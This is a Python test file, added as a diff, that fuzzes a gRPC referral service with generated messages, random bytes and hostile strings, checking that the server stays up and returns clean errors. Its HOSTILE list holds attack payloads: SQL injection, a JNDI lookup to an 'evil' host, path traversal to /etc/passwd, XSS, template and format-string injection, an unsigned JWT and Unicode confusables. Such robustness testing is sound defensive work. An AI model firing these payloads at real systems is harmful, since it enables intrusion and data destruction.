@@ -1,0 +1,261 @@
+"""Hostile input: a hypothesis harness that builds request messages for every RPC from the
+descriptors (hostile strings in every text field, extreme numbers, unknown enum values, odd
+timestamps and durations), plus raw random bytes as the payload of every method. Whatever comes
+in: no UNKNOWN or INTERNAL, exactly one ErrorInfo on every error, the server keeps serving, and
+the database invariants hold afterwards.
+
+The normal suite runs a bounded number of examples per method (``REFERRAL_FUZZ_EXAMPLES``, 25 by
+default); ``make fuzz`` runs many more.
+"""
+
+from __future__ import annotations
+
+import os
+from typing import Any
+
+import grpc
+import pytest
+from google.protobuf.descriptor import Descriptor, FieldDescriptor, MethodDescriptor
+from google.protobuf.message_factory import GetMessageClass
+from grpc_health.v1 import health_pb2
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from referral.v1 import auth_pb2
+
+from referral_service.app import SERVICES
+from tests.conftest import Api, bearer
+from tests.errors import rich
+from tests.invariants import check_invariants
+
+EXAMPLES = int(os.environ.get("REFERRAL_FUZZ_EXAMPLES", "25"))
+FORBIDDEN = {grpc.StatusCode.UNKNOWN, grpc.StatusCode.INTERNAL, grpc.StatusCode.DATA_LOSS}
+
+#: Strings attackers and broken clients send.
+HOSTILE = [
+    "",
+    " ",
+    "'; DROP TABLE users; --",
+    "' OR '1'='1",
+    '" OR 1=1 --',
+    "admin'--@example.com",
+    "%' OR email LIKE '%",
+    "\\",
+    "\x00",
+    "alice\x00@example.com",
+    "a@example.com\x00' OR 1=1",
+    "\u0430lice@example.com",  # Cyrillic a: a confusable of alice@
+    "alice@\u0435xample.com",  # Cyrillic e in the domain
+    "\uff41\uff4c\uff49\uff43\uff45@example.com",  # fullwidth
+    "ALICE@EXAMPLE.COM",
+    "\u202egnp.exe",  # right-to-left override
+    "\u200b\u200d\ufeff",
+    "\U0001f600" * 10,
+    "\ud7ff\ue000\uffff",
+    "a" * 64 + "@" + "b" * 250 + ".com",
+    "x" * 300 + "@example.com",
+    "y" * 5000,
+    "${jndi:ldap://evil/x}",
+    "{{7*7}}",
+    "../../../../etc/passwd",
+    "%s%s%s%n",
+    "<script>alert(1)</script>",
+    "00000000-0000-0000-0000-000000000000",
+    "{12345678-1234-5678-1234-567812345678}",
+    "urn:uuid:12345678-1234-5678-1234-567812345678",
+    "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
+    "AAAA.BBBB",
+    "ZZZZ",
+    "GOOD-CODE_1",
+]
+
+TEXT = st.one_of(
+    st.sampled_from(HOSTILE),
+    st.text(max_size=40),
+    st.emails(),
+    st.text(min_size=200, max_size=2000),
+    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=20)),
+)
+
+_INTS = {
+    FieldDescriptor.TYPE_INT32: (-(2**31), 2**31 - 1),
+    FieldDescriptor.TYPE_SINT32: (-(2**31), 2**31 - 1),
+    FieldDescriptor.TYPE_SFIXED32: (-(2**31), 2**31 - 1),
+    FieldDescriptor.TYPE_INT64: (-(2**63), 2**63 - 1),
+    FieldDescriptor.TYPE_SINT64: (-(2**63), 2**63 - 1),
+    FieldDescriptor.TYPE_SFIXED64: (-(2**63), 2**63 - 1),
+    FieldDescriptor.TYPE_UINT32: (0, 2**32 - 1),
+    FieldDescriptor.TYPE_FIXED32: (0, 2**32 - 1),
+    FieldDescriptor.TYPE_UINT64: (0, 2**64 - 1),
+    FieldDescriptor.TYPE_FIXED64: (0, 2**64 - 1),
+}
+
+
+def _integers(low: int, high: int) -> st.SearchStrategy[int]:
+    edges = [v for v in (low, high, -1, 0, 1, 2**31, 2**31 - 1, 2**53) if low <= v <= high]
+    return st.one_of(
+        st.sampled_from(edges),
+        st.integers(low, high),
+        st.integers(-1000, 100_000).filter(lambda v: low <= v <= high),
+    )
+
+
+def field_strategy(field: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
+    kind = field.type
+    if kind == FieldDescriptor.TYPE_STRING:
+        single: st.SearchStrategy[Any] = TEXT
+    elif kind == FieldDescriptor.TYPE_BYTES:
+        single = st.binary(max_size=256)
+    elif kind == FieldDescriptor.TYPE_BOOL:
+        single = st.booleans()
+    elif kind in _INTS:
+        single = _integers(*_INTS[kind])
+    elif kind in (FieldDescriptor.TYPE_DOUBLE, FieldDescriptor.TYPE_FLOAT):
+        single = st.floats(
+            allow_nan=True, allow_infinity=True, width=32 if kind == FieldDescriptor.TYPE_FLOAT else 64
+        )
+    elif kind == FieldDescriptor.TYPE_ENUM:
+        # proto3 enums are open: unknown numbers arrive too
+        single = st.one_of(
+            st.sampled_from([v.number for v in field.enum_type.values]), _integers(-(2**31), 2**31 - 1)
+        )
+    elif kind == FieldDescriptor.TYPE_MESSAGE:
+        single = message_strategy(field.message_type, depth + 1)
+    else:  # pragma: no cover - groups are not proto3
+        raise AssertionError(field.full_name)
+    if field.is_repeated:
+        return st.lists(single, max_size=3)
+    return single
+
+
+def message_strategy(descriptor: Descriptor, depth: int = 0) -> st.SearchStrategy[Any]:
+    cls = GetMessageClass(descriptor)
+    if depth > 3:
+        return st.just(cls())
+    optional = {field.name: field_strategy(field, depth) for field in descriptor.fields}
+    return st.fixed_dictionaries({}, optional=optional).map(lambda values: cls(**values))
+
+
+METHODS: list[MethodDescriptor] = [method for service in SERVICES for method in service.methods]
+
+
+def _path(method: MethodDescriptor) -> str:
+    return f"/{method.containing_service.full_name}/{method.name}"
+
+
+def _check(error: grpc.aio.AioRpcError, what: str) -> None:
+    assert error.code() not in FORBIDDEN, f"{what}: {error.code()} {error.details()}"
+    if error.code() == grpc.StatusCode.RESOURCE_EXHAUSTED and "rate" not in (error.details() or ""):
+        return  # grpc's own message-size refusal carries no details
+    details = rich(error)  # exactly one ErrorInfo, our domain, a request id
+    assert details.domain == "referral-service"
+    assert "Traceback" not in details.message
+    assert "sqlalchemy" not in details.message.lower()
+
+
+class Caller:
+    def __init__(self, api: Api) -> None:
+        self.api = api
+        self.token = ""
+
+    async def fresh_token(self) -> str:
+        _, token = await self.api.user_with_token()
+        return token
+
+    async def call(self, method: MethodDescriptor, payload: bytes, auth: str) -> None:
+        if auth == "valid":
+            if not self.token or method.name == "Logout":
+                self.token = await self.fresh_token()
+            metadata: tuple[tuple[str, str], ...] = bearer(self.token)
+        elif auth == "garbage":
+            metadata = bearer("garbage.token.here")
+        else:
+            metadata = ()
+        rpc = self.api.channel.unary_unary(_path(method), request_serializer=None, response_deserializer=None)
+        try:
+            await rpc(payload, metadata=metadata, timeout=30)
+        except grpc.aio.AioRpcError as error:
+            _check(error, f"{method.name}({payload[:200]!r})")
+        if method.name == "Logout" and auth == "valid":
+            self.token = ""
+
+
+async def _still_serving(api: Api) -> None:
+    response = await api.health.Check(health_pb2.HealthCheckRequest(service=""))
+    assert response.status == health_pb2.HealthCheckResponse.SERVING
+    await api.register()
+    await check_invariants(api.app.db)
+
+
+FUZZ = settings(
+    max_examples=EXAMPLES,
+    deadline=None,
+    derandomize=os.environ.get("REFERRAL_FUZZ_RANDOM") != "1",
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+    ],
+    database=None,
+)
+
+
+def draw(strategy: st.SearchStrategy[Any]) -> list[Any]:
+    """Hypothesis as a generator: the server runs on this test's event loop, which a
+    ``@given`` test cannot share; the failing input is named in the assertion instead of
+    shrunk (derandomized, so a failure reproduces)."""
+    examples: list[Any] = []
+
+    @FUZZ
+    @given(strategy)
+    def collect(example: Any) -> None:
+        examples.append(example)
+
+    collect()
+    return examples
+
+
+@pytest.mark.parametrize("method", METHODS, ids=lambda m: m.name)
+async def test_generated_messages_never_break_the_server(api: Api, method: MethodDescriptor) -> None:
+    caller = Caller(api)
+    auths = st.sampled_from(["valid", "valid", "none", "garbage"])
+    for message, auth in draw(st.tuples(message_strategy(method.input_type), auths)):
+        await caller.call(method, message.SerializeToString(), auth)
+    await _still_serving(api)
+
+
+@pytest.mark.parametrize("method", METHODS, ids=lambda m: m.name)
+async def test_random_bytes_never_break_the_server(api: Api, method: MethodDescriptor) -> None:
+    caller = Caller(api)
+    payloads = st.one_of(st.binary(max_size=512), st.binary(min_size=1, max_size=8).map(lambda b: b * 64))
+    for payload in draw(payloads):
+        await caller.call(method, payload, "valid")
+    await _still_serving(api)
+
+
+async def test_hostile_strings_in_every_text_field(api: Api) -> None:
+    """Every hostile string in every string field of every request, deterministically."""
+    caller = Caller(api)
+    for method in METHODS:
+        for field in method.input_type.fields:
+            if field.type != FieldDescriptor.TYPE_STRING:
+                continue
+            cls = GetMessageClass(method.input_type)
+            for value in HOSTILE:
+                await caller.call(method, cls(**{field.name: value}).SerializeToString(), "valid")
+    await _still_serving(api)
+
+
+async def test_confusable_emails_are_other_accounts_never_the_original(api: Api) -> None:
+    email = "alice.confusable@example.com"
+    await api.register(email)
+    for lookalike in ("\u0430lice.confusable@example.com", "\uff41lice.confusable@example.com"):
+        try:
+            user = await api.register(lookalike)
+        except grpc.aio.AioRpcError as error:
+            _check(error, lookalike)
+            assert error.code() == grpc.StatusCode.INVALID_ARGUMENT
+            continue
+        assert user.email != email  # a different mailbox, a different account
+        with pytest.raises(grpc.aio.AioRpcError):
+            await api.auth.Login(auth_pb2.LoginRequest(email=lookalike, password="wrong password!!"))
+    await check_invariants(api.app.db)
